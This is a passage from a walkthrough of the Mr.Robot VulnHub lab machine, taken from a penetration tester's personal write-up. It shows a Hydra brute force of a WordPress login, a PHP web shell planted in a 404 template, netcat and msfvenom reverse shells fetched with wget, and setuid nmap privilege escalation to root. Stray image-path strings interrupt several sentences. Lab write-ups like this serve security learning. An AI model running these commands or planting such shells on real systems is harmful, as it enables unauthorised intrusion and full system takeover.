So I know from using Wordpress inthe past if you give it the proper username you get an error like so:

error for proper user

Getting back on track: I proceed to go down the list of all the character names from the URL I listed above starting with "Elliot Anderson." Again I started to try all the same username combinations and found out the username is infact elliot.

Remember that fsocity.dic file we found thanks to the robots.txt? I figured let's try using this as our password dictionary file for a brute force against the Wordpress login.

I loaded up THC Hydra and gave it the following command to execute my brute force: hydra -l elliot -P fsocity.dic target_ip_address -V http-post-form '/wp-login.php:log=^USER^&pwd=^PASS^&wp-submit=Log In:S=Location' -t 64

If we breakdown the above command:

-l = single user only. If we wanted to supply a list it would be capital "L"
-P = Password file to scan through
target_ip_address = The website we intend to attack
-V = Verbose mode. This will show all the login attempts with the elliot:password combination from the password file
http-post-form = The supported service we want to attack. Login form is a HTTP POST
/wp-login.php = the page we intend to attack that has thelogin form
log = Wordpress's username field has a name of "log"
^USER^ = the variable for hydra to replace with the username
pwd = Wordpress's password field has a name of "pwd"
^PASS^ = the variable for hydra to replace with the password
wp-submit=Log in = the field name and value of Wordpress Submit form button
S = the success flag to look for, in this case "Location." Think of this like grepping the web page
-t = The number of threads (64)

In hindsight I could've and should've used THC Hydra to crack the username but I didn't. I took the long and tedious way of doing it.

So here's what some of the Hydra scan looks like:

Spoiler: Highlight to view
Hydra Scan

I had Hydra run over night so I didn't really get a good estimate of how long it took  (oh well I suppose). I came back to see that the credentials for elliot were found:

Spoiler: Highlight to view

[80][http-post-form] host:   login: elliot   password: ER28-0652
1 of 1 target succesfully completed, 1 valid password found

For grins and giggles I decided to see where this password was in the fsocity.dic file. It was basically the 5th password from the bottom....c'mon.So I finally have the credentials I need to log into the website. Whether "elliot" is an admin user is yet to be known. I input elliot's credentials into the login form and huzzah! I am in to what appears to be the backend of a Wordpress. Just to be sure I view the users page just to verify that elliot is infact the administrator of this Wordpress website. Sweet!

Rabbit hole #3: So I'm logged into this Wordpress as an administrator. Of course I try the hardest way possible to get myself a way to execute shell commands. I visit the Media upload page and I try for a bit to trick the system into allowing an"image" file with an embedded PHP shell.

Getting back on track: So after giving up on following the rabbit hole, I decide to edit the main template's 404 php page. I remove all the existing code and throw a very basic PHP script that allows me to execute system calls:

Spoiler: Highlight to view
<?php if(isset($_REQUEST['cmd'])){ echo "<pre>"; $cmd = ($_REQUEST['cmd']); system($cmd); echo "</pre>"; die; }?>

Credit for this 1 liner goes out to "Sente" on github:I navigate to the 404 page with a basic linux command via to see if it will give me the server's IP address information and it did!

I proceed to browse the file system and give the /home/ directory a shot to see what I'd find. I found a directory called robot so I browse into and find key #2 (which is owned by robot and readable only by robot) and another file which appears to be a password hash!

Spoiler: Highlight to view
mrrobot key

The contents of key #2 will be displayed towards the end.

I look to view the contents of this passowrd.raw-md5 file and get what appears to be the md5 hash password for robot account's login:

Spoiler: Highlight to view
robot hash

I take the hash of "c3fcd3d76192e4007dfb496cca67e13b" and throw it through a md5 hash cracking website to get robot's password:

Spoiler: Highlight to view
md5 hash cracked

So at this point I have a PHP based shell that accepts commands and returns the output andthe credentials to login as the robot user on the system. I do not have an actual shell or even an interactive shell at this point.

3. Establishing a Foothold

So at this point I am just piercing the outside of the onion if you will. I have a very basic way to call commands and get the output and need to use what I have found/obtained to get an interactive shell on this system so I can become robot and maybe eventually even root.

Rabbit hole #4: I check to see if netcat is on this system and it was


I proceeded to spend the next 15 minutes trying to make this machine netcat back to my Kali box with a shell using variants of the command nc kali_box 4444 -e /bin/bash and I've even made the target machine sit with the listener nc -lvp 4444 -e /bin/bash. I came to realize after some time that not all versions of netcat have the -e flag / parameter. This was exactly the case with Mr.Robot so I had to improvise a way to get myself a shell or make it connect back to my Kali box.

To get myself back on track I loaded up the msfvenom tool to create a perl based payload:

Spoiler: Highlight to view
msfvenom -p cmd/unix/reverse_perl LHOST= LPORT=6666 -f raw >

After creating the payload, I forced my Kali box to host abasic web service with the as one of the files. Then in my web browser, I called my basic php shell script to download the file using wget and then execute it:

payload called

Voila! I have a basic shell:

basic shell

After obtaining a basic shell, I needed to escalate to an interactive shell that way I can perform commands like su to become another user.

In my basic shell, I use the following command:

Spoiler: Highlight to view

python -c 'import pty; pty.spawn("/bin/bash")'
interactive shell

And then I became "robot"!


Now that I was able to become the user robot, I head back to robot's home directory at /home/robot/ and view the contents of the 2nd key.

4. Escalation

At this point I now have keys #1 & #2, an interactive shell on the host, and the credentials to robot. My initial foothold was rather fruitful but now I need to escalate farther. I need to become the root user.

Although my penetration experience is mediorcre, I at least kind of knew to try and find some potential commands with the setuid bit where root is the user / group owner. This is usually one of a few ways to perform a local privilege escalation to root.

I ran the command find / -perm -u=s -type f 2>/dev/null to find all files on the file system where:

-perm -u=s = This is the flag to find any files where the user's permissions have the setuid bit
-type f = Find only files
2>/dev/null = Take all standard error and redirect it to "the garbage collection"

My results were as follows:Spoiler: Highlight to view


I know nmap has an interactive mode so I launch nmap in the interactive mode using nmap --interactive and I got the following window/prompt:

Starting nmap V. 3.81 ( )
Welcome to Interactive Mode -- press h <enter> for help

Well if you want to break out of the nmap interactive mode and go back to the shell simply enter !sh at the nmap prompt

BAM! Root access:

root access

After obtaining root access I found key #3 in root's directory /root

5. Flags/Keys

Flag #1: This was found early after essentially performing a web scan in the robots.txt file

Here's the actual flag:

Spoiler: Highlight to view

Flag #2: This flag was found after establishing a basic foothold on the system. It was done only after hijacking a PHP page that's apart of Wordpress.

Here's the actual flag:Spoiler: Highlight to view


Flag #3: This was only obtainable after performing a privilege escalation as the flag was sitting in root's home directory

Here's the actual flag:Spoiler: Highlight to view

key 3There ya have it! The walkthrough of the Mr.Robot vulnhubVM. Please feel free to add any constructive feedback for any future walkthroughs I write up,tips for becoming a better pen tester, etc.